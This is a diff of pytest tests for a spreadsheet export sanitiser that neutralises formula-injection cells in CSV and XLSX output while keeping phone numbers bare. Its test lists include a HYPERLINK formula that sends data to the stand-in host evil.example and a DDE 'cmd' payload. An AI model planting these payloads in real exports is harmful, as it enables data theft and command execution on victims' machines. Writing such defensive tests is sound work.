@@ -16,8 +16,8 @@ import pytest
 from segmentation.activate.export import neutralise_formulas, to_csv_bytes, to_xlsx_bytes, write_file
 from segmentation.core.errors import SegmentStudioError
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")', "+1", "-2+3", "@SUM(A1)", "\t=1", "  =1",
-           "＝1", "＋1", "－1", "＠SUM(A1)", "\r=1", "\n=1", " -12"]
+ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1",
+           "  =1", "＝1", "＋1", "－1", "＠SUM(A1)", "\r=1", "\n=1", " -12"]
 SAFE = ["Élodie", "O'Neil", "a=b", "1+1", "", "'=already", "Zoë Ünal – Société Générale"]
 
 
@@ -225,3 +225,38 @@ def test_write_file_refuses_other_extensions(tmp_path, name: str) -> None:
     with pytest.raises(SegmentStudioError, match=r"\.csv or \.xlsx"):
         write_file(pd.DataFrame({"a": [1]}), tmp_path / name)
     assert list(tmp_path.iterdir()) == []
+
+
+# --------------------------------------------------------------------------
+# Numbers and phones kept bare, list cells as text
+# --------------------------------------------------------------------------
+
+BARE = ["+33612345678", "+33 6 12 34 56 78", "+1 (555) 123-4567", "-12", "-12,5", "+44.20.7946.0958", "0612345678"]
+STILL_FORMULAS = ["=1+1", "@cmd", "+SUM(1,2)", "-2+3", "+1+cmd|' /C calc'!A0", "-A1", "+ 1"]
+
+
+def test_numbers_and_phones_are_spared_but_formulas_are_not() -> None:
+    frame = pd.DataFrame({"phone": BARE, "attack": STILL_FORMULAS})
+    safe = neutralise_formulas(frame)
+    assert safe["phone"].tolist() == BARE
+    assert safe["attack"].tolist() == ["'=1+1", "'@cmd", "'+SUM(1,2)", "'-2+3", "'+1+cmd|' /C calc'!A0", "'-A1",
+                                       "'+ 1"]
+
+
+def test_csv_and_xlsx_keep_phones_bare_and_neutralise_formulas() -> None:
+    frame = pd.DataFrame({"phone": BARE, "attack": STILL_FORMULAS})
+    rows = _csv_rows(to_csv_bytes(frame))
+    assert [r[0] for r in rows[1:]] == BARE
+    assert [r[1] for r in rows[1:]] == ["'" + v for v in STILL_FORMULAS]
+    cells = _xlsx_cells(to_xlsx_bytes(frame))
+    assert [(row[0].value, row[0].data_type) for row in cells[1:]] == [(v, "s") for v in BARE]
+    assert [row[1].value for row in cells[1:]] == ["'" + v for v in STILL_FORMULAS]
+
+
+def test_list_cells_are_text_joined_by_semicolon_in_csv_and_xlsx() -> None:
+    frame = pd.DataFrame({"id": ["A", "B", "C"],
+                          "E-mail (all)": pd.Series([np.array(["a@x.fr", "b@y.com"]), None, ["=1+1"]], dtype=object)})
+    rows = _csv_rows(to_csv_bytes(frame))
+    assert rows == [["id", "E-mail (all)"], ["A", "a@x.fr; b@y.com"], ["B", ""], ["C", "'=1+1"]]
+    cells = _xlsx_cells(to_xlsx_bytes(frame))
+    assert [row[1].value for row in cells[1:]] == ["a@x.fr; b@y.com", None, "'=1+1"]
